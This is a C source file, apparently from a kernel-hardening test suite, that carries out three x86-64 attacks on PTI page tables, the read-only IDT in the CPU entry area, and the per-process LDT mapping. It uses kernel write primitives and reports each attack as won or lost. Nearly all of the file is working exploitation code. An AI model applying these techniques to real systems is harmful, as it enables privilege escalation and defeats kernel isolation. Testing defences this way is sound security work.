// SPDX-License-Identifier: GPL-2.0-only
/* Attacks on tables that exist for page-table isolation and for CPU entry. */
#include <setjmp.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifdef __x86_64__
#include <asm/ldt.h>
#endif

#include "attack.h"
#include "files.h"
#include "list.h"

#ifdef __x86_64__
#define CPU_ENTRY_AREA	0xfffffe0000000000UL	/* read-only IDT comes first */
#define GATE_TYPE	5			/* byte of gate 0 */
#define GATE_DPL3	0x60

#define LDT_4_LEVELS	0xffff880000000000UL
#define LDT_5_LEVELS	0xff10000000000000UL
#define LDT_USED	3
#define LDT_FORGED	2
#define LDT_SELECTOR	(LDT_FORGED << 3 | 7)
/* data segment, DPL 3, byte granular, limit 0xabcde */
#define LDT_DESCRIPTOR	0x004af2000000bcdeUL
#define LDT_LIMIT	0xabcde

/* Its own entry in the user half alone: unseen by every walk of the other. */
enum outcome pgd_user_half(void)
{
	uint64_t addr = top_level_size() * (top_level() == LEVEL_PGD ? 1 : 100);
	uint64_t phys = victim_phys();
	struct slot slot;
	char text[64];
	int err;

	if (!cpu_has("pti"))
		return skipped("page-table isolation is off");
	if (kwalk_user_half(addr, LEVEL_PGD, &slot) || slot.value)
		return broken("no empty entry in the user half");
	err = kwrite64(slot.slot, forge_tables((phys & ~(PAGE_SIZE - 1)) | PTE_USER_RW));
	if (err)
		return judge_secret("", err);
	snprintf(text, sizeof(text), "%s", (char *)addr + phys % PAGE_SIZE);
	kwrite64(slot.slot, 0);
	return judge_secret(text, err);
}

static sigjmp_buf after_signal;
static volatile int signal_seen;

static void note_signal(int number)
{
	signal_seen = number;
	siglongjmp(after_signal, 1);
}

/* SIGSEGV while gate 0 is the kernel's alone, SIGFPE once users may use it. */
static int use_gate_0(void)
{
	signal(SIGSEGV, note_signal);
	signal(SIGFPE, note_signal);
	if (!sigsetjmp(after_signal, 1))
		asm volatile("int $0");
	return signal_seen;
}

enum outcome cpu_entry_area(void)
{
	uint64_t gate = CPU_ENTRY_AREA + GATE_TYPE;
	unsigned char old, new;
	struct slot slot;
	int before = use_gate_0(), after, err;

	if (kwalk(CPU_ENTRY_AREA, LEVEL_PTE, 0, &slot) || slot.value & PTE_RW)
		return broken("no read-only IDT found");
	err = kwrite64(slot.slot, slot.value | PTE_RW);
	if (err)
		return lost("the write bit was refused: %d", err);
	kread(gate, &old, 1);
	new = old | GATE_DPL3;
	err = kwrite(gate, &new, 1);
	after = use_gate_0();
	if (!err)
		kwrite(gate, &old, 1);
	kwrite64(slot.slot, slot.value);
	if (before != SIGSEGV || after != SIGFPE)
		return lost("int $0 still raises signal %d (store %d)", after, err);
	return won("IDT changed through its read-only mapping: int $0 by uid %d reached the kernel's gate (SIGFPE, before: SIGSEGV)",
		   getuid());
}

static unsigned int segment_limit(unsigned int selector)
{
	unsigned int limit = 0;

	asm volatile("lsl %1, %0" : "+r" (limit) : "r" (selector) : "cc");
	return limit;
}

static int make_ldt(void)
{
	struct user_desc desc = {
		.entry_number = LDT_USED,
		.limit = 1,
		.seg_32bit = 1,
		.useable = 1,
	};

	return syscall(SYS_modify_ldt, 1, &desc, sizeof(desc));
}

enum outcome ldt_table(void)
{
	uint64_t addr = top_level() == LEVEL_PGD ? LDT_5_LEVELS : LDT_4_LEVELS;
	uint64_t *table, phys;
	unsigned int limit;
	struct slot slot;
	int err;

	if (!cpu_has("pti"))
		return skipped("page-table isolation is off: the LDT has no mapping of its own");
	if (make_ldt())
		return broken("modify_ldt failed");
	if (kwalk(addr, LEVEL_PTE, getpid(), &slot) || slot.level != LEVEL_PTE || !slot.value)
		return broken("no LDT mapping found: level %d, entry 0x%lx", slot.level, slot.value);
	phys = user_page((void **)&table);
	table[LDT_FORGED] = LDT_DESCRIPTOR;

	err = kwrite64(slot.slot, (slot.value & ~PTE_PFN_MASK) | phys);
	flush_tlb();
	limit = segment_limit(LDT_SELECTOR);
	if (!err)
		kwrite64(slot.slot, slot.value);
	if (limit != LDT_LIMIT)
		return lost("store gave %d, selector 0x%x has limit 0x%x", err,
			    LDT_SELECTOR, limit);
	return won("selector 0x%x has limit 0x%x: the CPU reads descriptors from the attacker's page",
		   LDT_SELECTOR, limit);
}
#else
static enum outcome only_x86(void)
{
	return skipped("there is no such table on this architecture");
}

enum outcome pgd_user_half(void)
{
	return only_x86();
}

enum outcome cpu_entry_area(void)
{
	return only_x86();
}

enum outcome ldt_table(void)
{
	return only_x86();
}
#endif
